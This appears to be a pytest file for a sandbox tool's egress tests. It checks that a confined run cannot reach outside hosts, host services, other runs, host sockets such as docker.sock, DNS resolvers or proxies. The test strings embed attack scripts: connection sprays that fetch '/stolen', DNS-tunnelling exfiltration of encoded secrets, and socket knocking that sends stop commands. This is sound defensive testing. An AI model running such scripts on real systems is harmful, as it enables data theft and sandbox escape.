"""E1, E12, E13, H2: a real run, started as a person starts it, and every way out it may try."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from ags import runs
from tests.attack.egress.scene import ATTACKER, OWN, Scene, listening, paths
from tests.attack.egress.test_direct import CONTROL, ODD, SPRAY
from tests.attack.egress.whole import Desk, abstract, desk_for, visitors
from tests.attack.whole import said, until

PORT = 8123
API = ("--allow", "api.example")


@pytest.fixture
def desk(scene: Scene) -> Iterator[Desk]:
    with desk_for(scene) as made:
        yield made


def unfenced(scene: Scene, script: str) -> None:
    """The very same attack, where there is no fence."""
    scene.world.clear()
    scene.world.run(("/usr/bin/python3", "-I", "-c", f"{ATTACKER}\n{script}"))


def test_dialling_by_itself_a_run_arrives_nowhere(desk: Desk, scene: Scene) -> None:
    desk.attack("try", SPRAY + ODD + CONTROL, *API)
    assert scene.only(scene.sites.api), (scene.reached, scene.asked)
    assert paths(scene.sites.api) == ["/control"]
    unfenced(scene, SPRAY + ODD)
    ways = {(protocol, target) for protocol, target, _ in scene.reached}
    assert {("tcp", "8.8.8.8"), ("udp", "10.0.0.5"), ("icmp", "8.8.8.8")} <= ways
    assert {("tcp", "2c0f::1"), ("udp", "2001:4860:4860::8888")} <= ways


HOST = f"""
hosts = ["127.0.0.1", "localhost", "::1", "0.0.0.0", "127.1", "127.0.0.53", "::ffff:127.0.0.1",
         "{OWN}", "2c0f::2", GATEWAY, "10.0.2.2", "172.17.0.1", "host.containers.internal",
         "host.docker.internal", "localhost.localdomain"]
for host in hosts:
    for way in (dial, connected, socksed):
        with quietly():
            say(way(host, {PORT}), get("/stolen", host, LAST))
    with quietly():
        say(dial(GATEWAY, PROXY), get(f"http://{{host}}:{PORT}/stolen", host, LAST))
"""


def test_services_of_the_host_are_out_of_reach(desk: Desk, scene: Scene) -> None:
    """The port itself is served: another host has it."""
    policy = f"domains: [api.example, {{host: plain.example, ports: [{PORT}], protocol: http}}]\n"
    with (
        listening(scene.world, "127.0.0.1", PORT) as local,
        listening(scene.world, "::1", PORT) as local6,
        listening(scene.world, OWN, PORT) as outer,
    ):
        desk.attack("shut", HOST + CONTROL, *desk.policy(policy))
        assert local == local6 == outer == []
        assert paths(scene.sites.api) == ["/control"]
        opened = f"{policy}host_services: [{PORT}]\n"
        desk.attack("open", HOST, *desk.policy(opened))
        assert local and all(b"host.containers.internal" in came for came in local)
        assert local6 == outer == []


def test_what_another_run_has_is_out_of_reach(desk: Desk, scene: Scene) -> None:
    """Its server, its publishing, its listeners, and what it alone is allowed."""
    server = "python3 -u -m http.server 5173 2>&1 &\nuntil curl -s localhost:5173/up; do :; done"
    allow = ("--allow", "plain.example")
    victim = desk.at_work("victim", server, "--publish", "5173", *allow)
    desk.attack(
        "try",
        f"""
addresses = ["127.0.0.1", "::1", "{OWN}", "2c0f::2", *(f"198.18.{{n}}.{{m}}"
             for n in (0, 1, 2) for m in range(8))]
for address in addresses:
    for port in (5173, 80, 443, PROXY):
        with quietly():
            say(dial(address, port), get("/stolen", "plain.example", LAST))
for way in (dial, connected, socksed):
    with quietly():
        say(way("plain.example", 80), get("/stolen", "plain.example", LAST))
{CONTROL}""",
        *API,
    )
    assert scene.only(scene.sites.api), (scene.reached, scene.asked)
    scene.world.run(("curl", "-sS", "-m", "90", "http://127.0.0.1:5173/published"))
    until(lambda: "GET /published" in said(victim))
    assert "/stolen" not in said(victim)
    desk.run("twin", "curl -sS -m 90 http://plain.example/twin", *allow)
    assert paths(scene.sites.plain) == ["/twin"]


def test_no_socket_of_the_host_answers_a_run(desk: Desk, scene: Scene) -> None:
    victim = desk.at_work("victim", "true", *API)
    knock = """
def knock(where):
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        with quietly(), socket.socket(socket.AF_UNIX, kind) as talk:
            talk.settimeout(2)
            talk.connect(where)
            talk.sendall(b'{"verb": "stop", "at_once": true}\\n')
            talk.recv(100)
knock("\\0ags-attacked")
"""
    control = [str(path) for path in (victim / "control.sock", desk.run_dir("victim"))]
    with abstract(scene, "ags-attacked") as attacked:
        desk.attack(
            "try",
            f"""{knock}
import stat
for path in {control!r} + ["/run/docker.sock", "/var/run/dbus/system_bus_socket"]:
    knock(path)
for top, folders, files in os.walk("/"):
    folders[:] = [each for each in folders if os.path.join(top, each) not in ("/proc", "/usr")]
    for name in files:
        with quietly():
            if stat.S_ISSOCK(os.lstat(os.path.join(top, name)).st_mode):
                knock(os.path.join(top, name))
{CONTROL}""",
            *API,
        )
        assert visitors(attacked) == 0
        unfenced(scene, knock)
        assert visitors(attacked) == 1
    assert runs.is_alive(victim) and runs.load(victim).state == "running"
    assert desk.ags("stop", "--now", "victim").returncode == 0
    assert runs.load(victim).state == "stopped"


def test_names_carry_nothing_out(desk: Desk, scene: Scene) -> None:
    """Neither what is allowed nor what is not, to any resolver, in any type."""
    tunnel = """
stolen = [f"{n}-c2VjcmV0IGJ5dGVz".lower() for n in range(4)]
names = [f"{part}.{host}" for part in stolen for host in ("other.example", "api.example")]
servers = [GATEWAY, "11.0.0.53", "8.8.8.8", "127.0.0.53", "2c0f::53"]
for name in names:
    for server in servers:
        for kind in (1, 10, 16, 28, 255):
            for tcp in (False, True):
                ask(query(name, kind), server, tcp, 0.05)
    with quietly():
        socket.getaddrinfo(name, 443)
    for way in (dial, connected, socksed):
        with quietly():
            fetch(way(name, 443), name, get("/stolen", name, LAST))
"""
    desk.attack("try", tunnel + CONTROL, *API)
    assert scene.asked == {"api.example"}
    assert scene.only(scene.sites.api) and paths(scene.sites.api) == ["/control"]
    unfenced(scene, tunnel)
    assert {"0-c2vjcmv0igj5dgvz.other.example"} <= scene.asked


def test_a_proxy_that_is_used_by_hand_decides_alike(desk: Desk, scene: Scene) -> None:
    script = """
import subprocess
def tried(host, plain):
    for way in (connected, socksed):
        with quietly():
            fetch(way(host, 443), host, get(f"/{way.__name__}", host, LAST))
    with quietly():
        say(dial(GATEWAY, PROXY), get(f"http://{plain}/absolute", plain, LAST))
    for kind in ("http", "socks5", "socks5h"):
        proxy = f"{kind}://{GATEWAY}:{PROXY}"
        subprocess.run(["curl", "-sS", "-m", "60", "-x", proxy, f"https://{host}/{kind}"])
tried("other.example", "other.example")
tried(OTHER, OTHER)
with quietly():
    fetch(socksed(socket.inet_aton(OTHER), 443), "api.example", get("/bytes", "api.example", LAST))
tried("api.example", "plain.example")
"""
    address = f"OTHER = {scene.sites.other.address!r}\n"
    desk.attack("try", address + script, *API, "--allow", "plain.example")
    assert scene.only(scene.sites.api, scene.sites.plain), (scene.reached, scene.asked)
    ways = ["/connected", "/socksed", "/http", "/socks5", "/socks5h"]
    assert paths(scene.sites.api) == ways and paths(scene.sites.plain) == ["/absolute"]
    assert all(origin.visits == [] for origin in scene.sites.others)
